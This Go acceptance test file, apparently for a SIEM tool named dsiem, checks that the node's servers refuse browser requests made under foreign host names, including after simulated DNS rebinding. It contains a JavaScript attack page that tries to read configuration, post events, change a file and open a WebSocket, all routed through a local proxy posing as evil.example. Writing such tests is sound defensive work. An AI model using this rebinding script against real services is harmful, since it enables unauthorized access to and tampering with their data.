package acceptance

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"dsiem/test/testkit"
)

// browser returns the program of a Chromium. Without one the test is skipped.
func browser(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	t.Skip("what a real browser sends is not tested: there is no Chromium on this machine")
	return ""
}

// browse opens a page in a browser of its own, to which all names are this
// machine, and leaves it open until ctx ends. With the flag --dump-dom it returns the
// page as text when it is loaded.
func browse(ctx context.Context, t *testing.T, program, page string, flags ...string) string {
	t.Helper()
	profile, err := os.MkdirTemp("", "chromium")
	testkit.Check(t, err)
	// Processes of the browser may write there for a moment after its end.
	defer func() { _ = os.RemoveAll(profile) }()
	ctx, cancel := context.WithTimeout(ctx, testkit.Patience)
	defer cancel()
	flags = append(flags, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--user-data-dir="+profile, "--host-resolver-rules=MAP * 127.0.0.1", page)
	command := exec.CommandContext(ctx, program, flags...)
	command.WaitDelay = time.Second // for processes of the browser that outlive it
	text, err := command.Output()
	if err != nil && ctx.Err() == nil {
		t.Errorf("opening %s: %v", page, err)
	}
	return string(text)
}

// A page that is opened under a name that somebody elsewhere may own is refused,
// at both servers of a node. The machine's own names work.
func TestBrowserMeetsNamesOfOthers(t *testing.T) {
	t.Parallel()
	program := browser(t)
	n := startStandalone(t, takeAll, diagnostics, "--host-names=siem.example.com")
	n.get("/healthz")
	_, port, _ := strings.Cut(n.address(), ":")
	_, metricsPort, _ := strings.Cut(diagnosticsAddress.FindStringSubmatch(n.says("diagnostics server listening"))[1], ":")
	const page, refusal = "<title>Dsiem", "if it is the node's, give it in --host-names"
	for _, c := range [][2]string{
		{"http://evil.example:" + port + "/", refusal},
		{"http://evil.example:" + metricsPort + "/metrics", refusal},
		{"http://127.0.0.1:" + port + "/", page},
		{"http://localhost:" + port + "/", page},
		{"http://siem.example.com:" + port + "/", page},
		{"http://siem.example.com:" + metricsPort + "/metrics", "dsiem_http_browser_refused_total"},
	} {
		if got := browse(t.Context(), t, program, c[0], "--dump-dom"); !strings.Contains(got, c[1]) {
			t.Errorf("%s shows %.1000s, want %q in it", c[0], got, c[1])
		}
	}
	if got := n.metrics()[`dsiem_http_browser_refused_total{reason="host_name"}`]; got < 2 {
		t.Errorf("%v requests are counted", got)
	}
	n.says("WARN", "request of a browser refused", "evil.example")
}

// rebinding is the script of a page whose name points to the node by now. It asks
// with all that a script can do to look like a program, and tells what it got.
const rebinding = `<!doctype html><link rel="icon" href="data:,"><script>
const tries = {
	"read": ["/config/"],
	"read without a Referer": ["/config/", {referrerPolicy: "no-referrer"}],
	"read without a Referer and a language": ["/config/", {referrerPolicy: "no-referrer", headers: {"Accept-Language": ""}}],
	"read as a program": ["/config/", {referrerPolicy: "no-referrer", headers: {"Accept-Language": "*", "Accept": "*/*", "User-Agent": "curl/8", "Sec-Fetch-Mode": "cors"}}],
	"send an event": ["/events", {method: "POST", body: "[]"}],
	"change a file": ["/config/notes.json", {method: "POST", body: "{}", referrerPolicy: "no-referrer"}],
};
async function attack() {
	const got = {};
	for (const [what, [path, options]] of Object.entries(tries)) {
		got[what] = String((await fetch(path, options)).status);
	}
	got["listen"] = await new Promise(done => {
		const socket = new WebSocket("ws://" + location.host + "/eps/");
		socket.onmessage = () => done("200");
		socket.onerror = () => done("refused");
	});
	await fetch("/told", {method: "POST", body: JSON.stringify(got)});
}
attack();
</script>`

// attacker returns the URL of a server with the page that attacks, which hands on
// all other requests as they are, so that page and node have one name to the
// browser, as after DNS rebinding. What the page tells goes to told.
func attacker(t *testing.T, node string, told func(map[string]string)) string {
	t.Helper()
	relay := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(&url.URL{Scheme: "http", Host: node})
		r.Out.Host = r.In.Host
	}}
	mux := http.NewServeMux()
	mux.Handle("/", relay)
	mux.HandleFunc("/attack", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte(rebinding))
	})
	mux.HandleFunc("/told", func(_ http.ResponseWriter, r *http.Request) {
		var got map[string]string
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Error(err)
		}
		told(got)
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	return server.URL
}

// What a script sends after DNS rebinding is refused, whatever it does to look like
// a program. Under a name of the node the same script gets everything: the
// difference is the name alone.
func TestBrowserAfterRebinding(t *testing.T) {
	t.Parallel()
	program := browser(t)
	n := startStandalone(t, takeAll, "--websocket", writable, "--host-names=siem.example.com")
	for name, want := range map[string]map[string]string{
		"evil.example": {
			"read": "403", "read without a Referer": "403", "read without a Referer and a language": "403", "read as a program": "403",
			"send an event": "403", "change a file": "403", "listen": "refused",
		},
		"siem.example.com": {
			"read": "200", "read without a Referer": "200", "read without a Referer and a language": "200", "read as a program": "200",
			"send an event": "200", "change a file": "201", "listen": "200",
		},
	} {
		var got map[string]string
		ctx, done := context.WithCancel(t.Context())
		u, err := url.Parse(attacker(t, n.address(), func(all map[string]string) {
			got = all
			done()
		}))
		testkit.Check(t, err)
		told := make(chan struct{})
		go func() {
			defer close(told)
			browse(ctx, t, program, "http://"+name+":"+u.Port()+"/attack")
		}()
		<-told
		if ctx.Err() == nil {
			t.Errorf("the page of %s has told nothing", name)
		}
		done()
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}
